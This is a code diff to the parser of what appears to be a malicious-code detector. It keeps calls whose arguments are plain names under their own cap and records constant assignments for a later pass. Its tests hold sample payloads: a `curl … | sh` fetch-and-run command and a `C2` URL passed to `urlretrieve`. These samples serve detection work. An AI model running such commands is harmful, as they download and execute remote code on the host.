@@ -12,8 +12,10 @@ use super::catalog;
 use super::ir::{Call, Expr, Module, Stmt};
 use super::Lang;
 
-/// Calls kept per file: those with a literal argument or a catalogued callee.
+/// Calls kept per file with a literal argument or a catalogued callee.
 const MAX_CALLS: usize = 100_000;
+/// Calls kept per file whose arguments are names only.
+const MAX_PLAIN_CALLS: usize = 20_000;
 /// String literals kept per file.
 const MAX_STRINGS: usize = 100_000;
 /// Longest string literal kept whole; longer ones are cut.
@@ -30,6 +32,7 @@ pub fn lower(lang: Lang, source: &str) -> Module {
         body: Vec::new(),
         strings: Vec::new(),
         calls: 0,
+        plain_calls: 0,
         last_call: None,
     };
     t.run();
@@ -49,6 +52,8 @@ struct Tokens<'s> {
     body: Vec<Stmt>,
     strings: Vec<(String, u32)>,
     calls: usize,
+    /// Calls kept that have only names as arguments.
+    plain_calls: usize,
     /// The call recorded last and the offset just past its `)`: a `.name(` right there
     /// is a method of its result (`require("x").exec(…)`).
     last_call: Option<(Expr, usize)>,
@@ -98,6 +103,8 @@ impl Tokens<'_> {
                 } else if self.peek_non_blank() == Some(b'(') {
                     let func = dotted(&name);
                     self.call(func);
+                } else if line_start && !name.contains('.') {
+                    self.assignment(name);
                 }
             } else {
                 self.i += 1;
@@ -214,35 +221,26 @@ impl Tokens<'_> {
         }
     }
 
-    /// A call of `func` with the cursor before its `(`: literal arguments are read up to
-    /// the first one that is not a literal (or a `+` chain of literals).
-    fn call(&mut self, func: Expr) {
+    /// A call of `func` with the cursor before its `(`: arguments are read up to the
+    /// first one that is neither a literal (or a `+` chain of literals) nor a name. The
+    /// call is recorded and returned.
+    fn call(&mut self, func: Expr) -> Option<Expr> {
         let line = self.line;
         self.skip_blanks();
         if self.src.get(self.i) != Some(&b'(') {
-            return;
+            return None;
         }
         self.i += 1;
         let mut args = Vec::new();
         let mut closed = false;
         loop {
             self.skip_blanks();
-            let mut parts = Vec::new();
-            while let Some((text, at)) = self.string() {
-                self.keep_string(text.clone(), at);
-                parts.push(text);
-                self.skip_blanks();
-                if self.src.get(self.i) != Some(&b'+') {
-                    break;
-                }
-                self.i += 1;
-                self.skip_blanks();
-            }
-            if parts.is_empty() {
+            let Some(arg) = self.argument() else {
                 closed = self.src.get(self.i) == Some(&b')');
                 break;
-            }
-            args.push(Expr::Str(parts.concat()));
+            };
+            args.push(arg);
+            self.skip_blanks();
             match self.src.get(self.i) {
                 Some(b',') => self.i += 1,
                 Some(b')') => {
@@ -255,11 +253,22 @@ impl Tokens<'_> {
         if closed {
             self.i += 1;
         }
-        let keep = !args.is_empty() || catalog::kinds(&dotted_name(&func)) != Default::default();
-        if !keep || self.calls >= MAX_CALLS {
-            return;
+        // Calls that carry text or call a catalogued name are what detectors read; calls
+        // of names with names are kept too (`r.urlretrieve(C2, AGENT)` resolves only in
+        // the facts pass) but capped apart, so a flood of `f(a)` cannot crowd out the
+        // payload after it.
+        let telling = args.iter().any(|a| matches!(a, Expr::Str(_)))
+            || catalog::kinds(&dotted_name(&func)) != Default::default();
+        let count = if telling {
+            &mut self.calls
+        } else {
+            &mut self.plain_calls
+        };
+        let cap = if telling { MAX_CALLS } else { MAX_PLAIN_CALLS };
+        if *count >= cap || !telling && args.is_empty() {
+            return None;
         }
-        self.calls += 1;
+        *count += 1;
         let call = Expr::Call(Box::new(Call {
             func,
             args,
@@ -269,7 +278,77 @@ impl Tokens<'_> {
         if closed {
             self.last_call = Some((call.clone(), self.i));
         }
-        self.body.push(Stmt::Eval { value: call, line });
+        self.body.push(Stmt::Eval {
+            value: call.clone(),
+            line,
+        });
+        Some(call)
+    }
+
+    /// One argument at the cursor: a string literal or a `+` chain of them, or a dotted
+    /// name (not a call, which the main loop reads on its own).
+    fn argument(&mut self) -> Option<Expr> {
+        let mut parts = Vec::new();
+        while let Some((text, at)) = self.string() {
+            self.keep_string(text.clone(), at);
+            parts.push(text);
+            self.skip_blanks();
+            if self.src.get(self.i) != Some(&b'+') {
+                break;
+            }
+            self.i += 1;
+            self.skip_blanks();
+        }
+        if !parts.is_empty() {
+            return Some(Expr::Str(parts.concat()));
+        }
+        let start = self.i;
+        let name = self.ident_chain()?;
+        if matches!(self.peek_non_blank(), Some(b'(' | b'[' | b'=')) {
+            self.i = start;
+            return None;
+        }
+        Some(dotted(&name))
+    }
+
+    /// `NAME = "literal"` or `NAME = call(…)` at the start of a line, the name read: the
+    /// constants the facts pass folds into later calls (`C2 = "http://…"`).
+    fn assignment(&mut self, name: String) {
+        let line = self.line;
+        self.skip_inline_blanks();
+        if self.src.get(self.i) != Some(&b'=') || self.src.get(self.i + 1) == Some(&b'=') {
+            return;
+        }
+        self.i += 1;
+        self.skip_inline_blanks();
+        let value = if let Some((text, at)) = self.string() {
+            self.keep_string(text.clone(), at);
+            Expr::Str(text)
+        } else if self.src.get(self.i).copied().is_some_and(is_ident_start) {
+            let Some(callee) = self.ident_chain() else {
+                return;
+            };
+            if self.peek_non_blank() != Some(b'(') {
+                return;
+            }
+            match self.call(dotted(&callee)) {
+                Some(call) => call,
+                None => return,
+            }
+        } else {
+            return;
+        };
+        self.body.push(Stmt::Assign {
+            targets: vec![Expr::Name(name)],
+            value,
+            line,
+        });
+    }
+
+    fn skip_inline_blanks(&mut self) {
+        while matches!(self.src.get(self.i), Some(b' ' | b'\t')) {
+            self.i += 1;
+        }
     }
 
     /// `import a.b [as c], d` or `from a import b [as c], d` (Python), the keyword read.
@@ -404,11 +483,32 @@ mod tests {
         src.push_str(&"f(a)[0].b, ".repeat(100_000));
         src.push_str("0]\nimport os\nos.system('curl http://192.0.2.1/x | sh')\n");
         let m = lower(Lang::Python, &src);
+        let found = calls(&m);
+        // The flood of `f(a)` is capped apart and does not crowd out the payload.
+        assert_eq!(found.len(), MAX_PLAIN_CALLS + 1);
+        assert_eq!(
+            found.last().unwrap(),
+            r#"os.system:3:[Str("curl http://192.0.2.1/x | sh")]"#
+        );
+        assert!(m
+            .body
+            .iter()
+            .any(|s| matches!(s, Stmt::Import { module, .. } if module == "os")));
+    }
+
+    #[test]
+    fn keeps_constants_for_the_facts_pass() {
+        let m = lower(
+            Lang::Python,
+            "C2 = 'http://192.0.2.1/a'\nr.urlretrieve(C2, AGENT)\n",
+        );
+        assert!(
+            matches!(&m.body[0], Stmt::Assign { value: Expr::Str(s), .. } if s == "http://192.0.2.1/a")
+        );
         assert_eq!(
             calls(&m),
-            vec![r#"os.system:3:[Str("curl http://192.0.2.1/x | sh")]"#]
+            vec![r#"r.urlretrieve:2:[Name("C2"), Name("AGENT")]"#]
         );
-        assert!(matches!(&m.body[0], Stmt::Import { module, .. } if module == "os"));
     }
 
     #[test]
